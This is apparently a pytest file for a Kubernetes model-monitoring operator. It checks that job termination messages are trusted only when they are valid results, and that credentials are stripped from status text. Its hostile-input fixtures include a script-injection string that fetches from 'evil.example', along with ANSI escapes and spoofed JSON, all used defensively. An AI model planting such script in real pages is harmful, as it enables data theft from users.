"""What is believed of a termination message, and what never reaches a status."""

import json

import pytest

from model_monitor_api.failures import Failure
from model_monitor_operator.objects import Object
from model_monitor_operator.story import Broken, Running, Succeeded, Waiting, tell
from tests.operator.story.documents import (
    NOW,
    RUN,
    a_complaint,
    a_condition,
    a_job,
    a_pod,
    a_result,
    ago,
    failed_job,
    running,
    terminated,
)

HOSTILE = {
    "nothing": "",
    "words": "Completed: all is well, secret-4711",
    "ANSI": "\x1b[2J\x1b[31msecret-4711",
    "HTML": "<script>fetch('//evil.example/4711')</script>",
    "kilobytes of quotes": '"' * 4000 + "4711",
    "another language's JSON": '{"verdict": "Completed", "note": "4711"}',
    "a future version": json.dumps(
        json.loads(a_result()) | {"version": "modelmonitor.dev/message.v2", "message": "4711"}
    ),
    "another run": a_result(run_id="f" * 32, message="4711"),
    "a run without an id": a_result(run_id="", message="4711"),
    "a failure": a_complaint("AccessRefused", "4711", run_id=RUN),
    "a lone surrogate": "\ud800 4711",
    "control characters within JSON": a_result().replace("1 violation", "\\u001b[2J4711"),
}


def done(message: str) -> Object:
    return a_pod(terminated(0, message), phase="Succeeded")


def test_a_result_of_the_run_is_believed() -> None:
    story = tell(a_job(a_condition("Complete")), [done(a_result())], (), run_id=RUN, now=NOW)
    assert isinstance(story, Succeeded)
    assert story.message is not None
    assert story.detail is not None
    assert story.message.verdict == "CompletedWithViolations"
    assert [row.feature for row in story.detail.metrics] == ["tenure"]
    assert story.sentence == "1 violation in 1 feature."
    assert (NOW - story.ended).total_seconds() == 120


@pytest.mark.parametrize("raw", HOSTILE.values(), ids=HOSTILE)
def test_any_other_message_is_a_result_that_was_lost(raw: str) -> None:
    story = tell(a_job(a_condition("Complete")), [done(raw)], (), run_id=RUN, now=NOW)
    assert isinstance(story, Succeeded)
    assert story.message is None
    assert story.detail is None
    assert "4711" not in story.sentence
    assert "kubectl logs -n models mms-churn-29497680-x7k2p -c analyzer" in story.sentence


@pytest.mark.parametrize("raw", HOSTILE.values(), ids=HOSTILE)
def test_a_failed_container_is_not_quoted_unless_it_is_believed(raw: str) -> None:
    pod = a_pod(terminated(17, raw), phase="Failed")
    story = tell(failed_job(), [pod], (), run_id=RUN, now=NOW)
    assert isinstance(story, Broken)
    assert "4711" not in story.sentence
    assert "Exit code 17" in story.sentence


@pytest.mark.parametrize("run_id", ["", RUN], ids=["before it had an id", "of the run"])
def test_what_the_analyzer_says_of_its_failure_is_quoted(run_id: str) -> None:
    said = a_complaint("SchemaMismatch", "the column 'tenure' is not in the data", run_id=run_id)
    story = tell(failed_job(), [a_pod(terminated(17, said), phase="Failed")], (), run_id=RUN, now=NOW)
    assert isinstance(story, Broken)
    assert "the column 'tenure' is not in the data." in story.sentence
    assert "kubectl logs" not in story.sentence


def test_a_cause_that_the_analyzer_names_stands_alone() -> None:
    said = a_complaint("AccessRefused", "Secret 'store' has no key AWS_ACCESS_KEY_ID: add it")
    story = tell(failed_job(), [a_pod(terminated(11, said), phase="Failed")], (), run_id=RUN, now=NOW)
    assert isinstance(story, Broken)
    assert story.sentence == (
        "Secret 'store' has no key AWS_ACCESS_KEY_ID: add it. "
        "Correct the Secret or the workload identity, or grant it permission on the location."
    )


def test_what_the_analyzer_advises_is_quoted_in_place_of_the_reasons_own_advice() -> None:
    said = a_complaint("ScriptFailed", "script 's' defines no handler", next_step="Define it.\x1b[2J")
    story = tell(failed_job(), [a_pod(terminated(21, said), phase="Failed")], (), run_id=RUN, now=NOW)
    assert isinstance(story, Broken)
    assert story.sentence.endswith("script 's' defines no handler. Define it.\\x1b[2J")
    assert Failure.SCRIPT_FAILED.next_step not in story.sentence


def test_a_complaint_with_another_reason_than_its_exit_code_is_not_quoted() -> None:
    said = a_complaint("AccessRefused", "secret-4711")
    story = tell(failed_job(), [a_pod(terminated(17, said), phase="Failed")], (), run_id=RUN, now=NOW)
    assert isinstance(story, Broken)
    assert "4711" not in story.sentence


def test_a_complaint_shows_no_credentials() -> None:
    said = a_complaint("StorageFailed", "https://user:pass4711@store.example answered 500")
    story = tell(failed_job(), [a_pod(terminated(10, said), phase="Failed")], (), run_id=RUN, now=NOW)
    assert isinstance(story, Broken)
    assert "https://…@store.example answered 500." in story.sentence


def test_without_a_run_to_compare_with_any_run_is_believed() -> None:
    story = tell(a_job(), [done(a_result(run_id="f" * 32))], (), run_id=None, now=NOW)
    assert isinstance(story, Succeeded)
    assert story.message is not None


def test_a_result_is_taken_from_a_pod_that_is_held_open() -> None:
    pod = a_pod(terminated(0, a_result()), running("istio-proxy"))
    story = tell(a_job(), [pod], (), run_id=RUN, now=NOW)
    assert isinstance(story, Succeeded)
    assert story.message is not None


def test_of_several_pods_that_ended_well_the_one_with_a_result_counts() -> None:
    pods = [done(a_result()), done("") | {"metadata": done("")["metadata"] | {"name": "z"}}]
    for order in (pods, pods[::-1]):
        story = tell(a_job(), order, (), run_id=RUN, now=NOW)
        assert isinstance(story, Succeeded)
        assert story.message is not None


def test_a_complete_job_without_a_pod_has_lost_its_result() -> None:
    story = tell(a_job(a_condition("Complete")), (), (), run_id=RUN, now=NOW)
    assert isinstance(story, Succeeded)
    assert story.message is None
    assert "pod is gone" in story.sentence


@pytest.mark.parametrize("ended", ["Complete", "Failed"])
def test_a_job_whose_pods_end_is_not_seen_yet_is_not_judged_without_it(ended: str) -> None:
    """Jobs and pods are watched each by itself."""
    job = a_job(a_condition(ended, reason="BackoffLimitExceeded", lastTransitionTime=ago(seconds=2)))
    story = tell(job, [a_pod(running())], (), run_id=RUN, now=NOW)
    assert isinstance(story, Running)


def test_a_job_that_has_just_completed_may_have_a_pod_that_is_not_seen_yet() -> None:
    job = a_job(a_condition("Complete", lastTransitionTime=ago(seconds=2)))
    assert tell(job, (), (), run_id=RUN, now=NOW) == Waiting(
        None, "The Job is complete; how its pod ended is not known yet."
    )
